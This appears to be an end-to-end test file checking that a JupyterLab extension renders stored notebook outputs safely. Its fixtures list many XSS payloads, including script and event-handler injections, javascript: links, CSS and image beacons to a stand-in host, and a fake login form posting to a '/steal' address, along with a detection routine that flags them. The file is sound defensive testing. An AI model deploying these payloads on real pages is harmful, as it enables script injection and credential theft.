"""Stored outputs are untrusted: they neither run, nor fetch, nor cover the page."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.conftest import Lab
from tests.end_to_end.jupyterlab import open_lab
from tests.end_to_end.test_comparer import READY as COMPARED
from tests.end_to_end.test_comparer import compare_again, leave, press
from tests.end_to_end.test_viewer import READY as VIEWED
from tests.end_to_end.test_viewer import png
from tests.journal.records import message, stream

RUN = "window.hacked = 1"
AWAY = "http://127.0.0.1:9"  # nobody listens there; a request is seen all the same

HTML = {
    "script": f"<script>{RUN}</script><script src='{AWAY}/s.js'></script>",
    "handler": f"<img src=x onerror='{RUN}'><details open ontoggle='{RUN}'>o</details>"
    f"<body onload='{RUN}'><input autofocus onfocus='{RUN}'><video onerror='{RUN}' src=x></video>",
    "link": f"<a href='javascript:{RUN}'>a</a> <a href='JaVa&#10;Script:{RUN}'>b</a>"
    f" <a href='data:text/html,<script>{RUN}</script>'>c</a> <area href='javascript:{RUN}'>",
    "command": "<a data-commandlinker-command='application:close-all' href='#'>x</a>"
    "<button commandLinker-command='application:close-all'>y</button>",
    "svg": f"<svg onload='{RUN}'><script>{RUN}</script><image href='{AWAY}/i.png'/>"
    f"<use href='{AWAY}/u.svg#a'/><foreignObject><iframe src='{AWAY}/f'></iframe>"
    "</foreignObject></svg>",
    "frame": f"<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe><iframe src='{AWAY}/f'>"
    f"</iframe><object data='{AWAY}/o'></object><embed src='{AWAY}/e'><portal src='{AWAY}/p'>",
    "style": "<style>body, #main { display: none !important }</style>"
    "<div style='position: fixed; inset: 0; z-index: 99999; background: red'>style</div>",
    "class": "<div class='jp-Dialog lm-Widget' style='z-index: 99999; background: red'>"
    "<div class='jp-Dialog-content'>Your password:</div></div>",
    "sheet": f"<link rel=stylesheet href='{AWAY}/l.css'><style>@import '{AWAY}/i.css';"
    f"@font-face {{ font-family: f; src: url({AWAY}/f.woff) }} * {{ font-family: f }}</style>",
    "background": f'<div style="background: url({AWAY}/b.png)">1</div>'
    f"<div style=\"background-image: u\\72l('{AWAY}/c.png')\">2</div>"
    f"<div style=\"background-image: image-set('{AWAY}/d.png' 1x)\">3</div>"
    f'<div style="cursor: url({AWAY}/e.cur), auto; list-style: url({AWAY}/f.png)">4</div>'
    f"<table background='{AWAY}/g.png'><tr><td background='{AWAY}/h.png'>5</td></tr></table>",
    "image": f"<img src='{AWAY}/1.png'><img src=//127.0.0.1:9/2.png><img srcset='{AWAY}/3.png 2x'>"
    f"<picture><source srcset='{AWAY}/4.png'><img></picture><input type=image src='{AWAY}/5.png'>"
    f"<video poster='{AWAY}/6.png'><source src='{AWAY}/7.mp4'></video><audio src='{AWAY}/8.mp3'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}/m'><base href='{AWAY}/'>",
    "form": f"<form action='{AWAY}/steal'><input name=password><button>Log in</button></form>",
    "table": f"<table><tr>{'<td>wide</td>' * 2000}</tr></table>",
    "tall": f"<table>{'<tr><td>tall</td></tr>' * 5000}</table>",
    "deep": "<div>" * 3000,
    "huge": "<p style='width: 900000px; height: 900000px; font-size: 9000px'>huge</p>",
}
VEGA = "application/vnd.vegalite.v5+json"
DATA: dict[str, dict[str, Any]] = {
    **{name: {"text/html": html} for name, html in HTML.items()},
    "javascript": {"application/javascript": RUN, "text/plain": "javascript"},
    "markdown": {
        "text/markdown": f"[a](javascript:{RUN}) ![b]({AWAY}/m.png) <script>{RUN}</script>"
        f"<img src=x onerror='{RUN}'>\n\n<style>body {{ display: none }}</style>\n\n"
        f"$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{background:url({AWAY}/t.png)}}{{y}}$"
    },
    "latex": {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\require{{{AWAY}/r.js}}$"},
    "picture": {
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}' width='9999999'>"
        f"<script>{RUN}</script><image href='{AWAY}/i.png'/></svg>",
        "text/plain": "svg",
    },
    "quote": {"image/png": f"'\"><img src=x onerror='{RUN}'>", "text/plain": f"<b>{RUN}</b>"},
    "address": {"image/png": f"{AWAY}/x.png", "text/plain": "address"},
    "vega": {
        VEGA: {"data": {"url": f"{AWAY}/v.json"}, "mark": "bar", "encoding": {}},
        "text/plain": "vega",
    },
    "signal": {
        "application/vnd.vega.v5+json": {
            "signals": [{"name": "s", "value": AWAY}],
            "data": [{"name": "d", "url": {"signal": "s + '/v.json'"}}],
        },
        "text/plain": "vega",
    },
    "embed": {
        VEGA: {
            "data": {"values": [{"a": 1}]},
            "mark": "bar",
            "encoding": {},
            "usermeta": {"embedOptions": {"patch": f"{AWAY}/p.json", "config": f"{AWAY}/c.json"}},
        },
        "text/plain": "vega",
    },
    "map": {"application/geo+json": {"type": "Point", "coordinates": [1, 2]}, "text/plain": "map"},
    "pdf": {"application/pdf": "JVBERi0xLjQK", "text/plain": "pdf"},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
        "text/plain": "widget",
    },
}
METADATA = {"trusted": True, "text/html": {"isolated": True}, "image/png": {"width": 9_000_000}}


def cells(change: str) -> list[tuple[str, str, list[list[bytes]]]]:
    """Give every hostile output as a cell, then an error and a print; each runs twice."""
    found = []
    for again in ("", " again"):
        for name, data in DATA.items():
            bundle = {
                kind: f"{value}{change}{again}" if isinstance(value, str) else value
                for kind, value in data.items()
            }
            shown = [
                message("display_data", {"data": bundle, "metadata": metadata})
                for metadata in (METADATA, {"trusted": True})
            ]
            found.append((name, f"show('{name}{change}')", shown))
        traceback = [f"<script>{RUN}</script>", f"\x1b]8;;javascript:{RUN}\x1b\\x\x1b]8;;\x1b\\"]
        error = {"ename": f"<img src=x onerror='{RUN}'>", "evalue": change, "traceback": traceback}
        found.append(("error", f"<script>{RUN}</script>{change}", [message("error", error)]))
        found.append(("print", "print()", [stream(f"javascript:{RUN} <script>{RUN}</script>\n")]))
    return found


@pytest.fixture(scope="module")
def hostile(lab: Lab) -> tuple[str, str]:
    base, head = (
        leave(lab, name, cells(change), notebook=f"<img src=x onerror='{RUN}'>.ipynb", minute=n)
        for n, (name, change) in enumerate((("hostilea", ""), ("hostileb", "!")))
    )
    return base, head


def watch(page: Any, lab: Lab) -> list[str]:
    """Give a list that fills with what the page asks of others than this server."""
    ours = (lab.url, lab.url.replace("http", "ws"), "data:", "blob:")
    outside: list[str] = []
    page.on(
        "request",
        lambda request: None if request.url.startswith(ours) else outside.append(request.url),
    )
    return outside


_HARM = """() => {
    const views = [...document.querySelectorAll('.codesave-SessionViewer, .codesave-Comparer')];
    const found = views.flatMap(view => [...view.querySelectorAll('*')]).flatMap(node => [
        ...(node.matches('script, object, embed, portal, base, meta, form, link, style')
            && !node.closest('mjx-container, svg.marks') ? [node.outerHTML.slice(0, 80)] : []),
        ...[...node.attributes].filter(({ name, value }) => /^on/.test(name)
            || /commandlinker/i.test(name)
            || /^\\s*j\\s*a\\s*v\\s*a\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t\\s*:/i.test(value)
            || (name === 'href' && /^\\s*data:/i.test(value))
        ).map(({ name, value }) => `${name}=${value}`)
    ]);
    const reached = [...document.querySelectorAll('#jp-menu-panel, .codesave-Switches')]
        .filter(node => node.checkVisibility())
        .every(node => {
            const box = node.getBoundingClientRect();
            return node.contains(document.elementFromPoint(box.x + 20, box.y + box.height / 2));
        });
    return [
        ...found,
        ...(window.hacked === undefined ? [] : ['something ran']),
        ...(reached ? [] : ['the page is covered']),
        ...(document.body.scrollWidth <= window.innerWidth ? [] : ['the page is wider']),
        ...(document.querySelector('#main').offsetHeight > 300 ? [] : ['the page is gone']),
    ];
}"""


def scroll_through(page: Any, selector: str) -> None:
    """Scroll slowly enough that every cell is fetched and built."""
    page.evaluate(
        """async selector => {
            const scroller = document.querySelector(selector);
            for (let top = 0; top <= scroller.scrollHeight; top += 400) {
                scroller.scrollTop = top;
                await new Promise(done => requestAnimationFrame(() => setTimeout(done, 30)));
            }
        }""",
        selector,
    )
    page.wait_for_load_state("networkidle")


def view(page: Any, run: str) -> Any:
    page.evaluate(
        "run => { window.jupyterapp.commands.execute('codesave:open-session', {run}); }", run
    )
    page.wait_for_selector(VIEWED, timeout=30_000)
    return page.locator(VIEWED)


def in_the_session(page: Any, runs: tuple[str, str]) -> None:
    viewer = view(page, runs[0])
    viewer.locator(".jp-OutputArea-output").first.wait_for()
    scroll_through(page, ".codesave-SessionCells")
    viewer.locator(".jp-OutputArea-output", has_text="Not shown").first.wait_for()


def in_the_gallery(page: Any, runs: tuple[str, str]) -> None:
    viewer = view(page, runs[0])
    press(viewer, "Images")
    viewer.locator(".codesave-Gallery-image img[src]").nth(3).wait_for()
    scroll_through(page, ".codesave-Gallery")


def in_the_executions_of_a_cell(page: Any, runs: tuple[str, str]) -> None:
    viewer = view(page, runs[0])
    viewer.locator(".codesave-Timeline ol").focus()
    for _ in DATA:
        page.keyboard.press("Enter")
        press(viewer, "Compare its 2 executions")
        viewer.locator(".codesave-Executions .codesave-Pair").first.wait_for()
        assert page.evaluate(_HARM) == []
        viewer.locator(".codesave-Timeline ol").focus()
        page.keyboard.press("ArrowDown")


def side_by_side(page: Any, runs: tuple[str, str]) -> None:
    comparer = compare_again(page, {"base": runs[0], "head": runs[1]})
    comparer.locator(".codesave-CellDiff-content").first.wait_for()
    scroll_through(page, ".codesave-NotebookDiff")


def inline(page: Any, runs: tuple[str, str]) -> None:
    comparer = compare_again(page, {"base": runs[0], "head": runs[1]})
    press(comparer, "Inline")
    comparer.locator(".codesave-CellDiff-content").first.wait_for()
    scroll_through(page, ".codesave-NotebookDiff")


def on_one_side_alone(page: Any, runs: tuple[str, str]) -> None:
    compare_again(page, {"base": runs[0], "head": "./empty.ipynb"})
    page.locator(COMPARED).locator(".codesave-CellDiff-content").first.wait_for()
    scroll_through(page, ".codesave-NotebookDiff")


def by_swipe(page: Any, runs: tuple[str, str]) -> None:
    comparer = compare_again(page, {"base": runs[0], "head": runs[1]})
    comparer.locator(".codesave-CellDiff-content").first.wait_for()
    scroll_through(page, ".codesave-NotebookDiff")
    swipes = comparer.locator(".codesave-Swipe button")
    assert swipes.count() >= 4
    for button in swipes.all():
        button.evaluate("node => node.click()")
    comparer.locator(".codesave-Swipe-pile").nth(3).wait_for(state="attached")


@pytest.mark.parametrize(
    "show",
    [
        in_the_session,
        in_the_gallery,
        in_the_executions_of_a_cell,
        side_by_side,
        inline,
        on_one_side_alone,
        by_swipe,
    ],
)
def test_hostile_outputs_do_nothing(
    lab: Lab, page: Any, hostile: tuple[str, str], show: Callable[[Any, tuple[str, str]], None]
) -> None:
    (lab.root / "empty.ipynb").write_text(
        '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    )
    outside = watch(page, lab)
    open_lab(page, lab)
    show(page, hostile)
    assert page.evaluate(_HARM) == []
    assert outside == []
    assert page.problems == []


def test_a_blocked_image_is_shown_when_a_person_asks(lab: Lab, page: Any) -> None:
    run = leave(
        lab,
        "blockedi",
        [
            (
                "a",
                "show()",
                [
                    message(
                        "display_data",
                        {"data": {"text/html": f"<img src='{AWAY}/{name}.png'>"}, "metadata": {}},
                    )
                    for name in ("b", "k")
                ],
            ),
            ("b", "draw()", [message("display_data", {"data": DATA["vega"], "metadata": {}})]),
            (
                "c",
                "plot()",
                [
                    message(
                        "display_data",
                        {"data": {"image/png": png(9)}, "metadata": {}},
                    )
                ],
            ),
        ],
        notebook="blocked.ipynb",
    )
    outside = watch(page, lab)
    open_lab(page, lab)
    viewer = view(page, run)
    blocked = viewer.locator("img.codesave-blocked")
    blocked.nth(1).wait_for()
    viewer.get_by_role("img").wait_for()
    assert outside == []
    with page.expect_request(f"{AWAY}/b.png"):
        blocked.first.click()
    with page.expect_request(f"{AWAY}/k.png"):
        blocked.press("Enter")
    with page.expect_request(f"{AWAY}/v.json"):
        viewer.get_by_role("button", name="Show it").click()


def test_a_huge_output_is_not_drawn_until_a_person_asks(lab: Lab, page: Any) -> None:
    row = "<tr><td>a cell of a table without an end</td></tr>"
    run = leave(
        lab,
        "hugehuge",
        [
            (
                "a",
                "frame",
                [message("display_data", {"data": {"text/html": f"<table>{row * 50_000}"}})],
            ),
            ("b", "print()", [stream("a line\n" * 100)]),
            (
                "c",
                "loop()",
                [
                    message("display_data", {"data": {"text/html": f"<p>{n}</p>"}})
                    for n in range(300)
                ],
            ),
        ],
        notebook="huge.ipynb",
    )
    open_lab(page, lab)
    viewer = view(page, run)
    withheld = viewer.locator(".codesave-note", has_text="2.5 MB of output, not drawn at once.")
    withheld.wait_for()
    viewer.locator(".jp-OutputArea-output", has_text="a line").wait_for()
    viewer.get_by_text("Show more outputs").wait_for()
    assert viewer.locator(".jp-RenderedHTMLCommon p").count() == 50
    withheld.get_by_role("button", name="Show it").click()
    viewer.locator("td").nth(49_999).wait_for(state="attached")
    assert page.problems == []
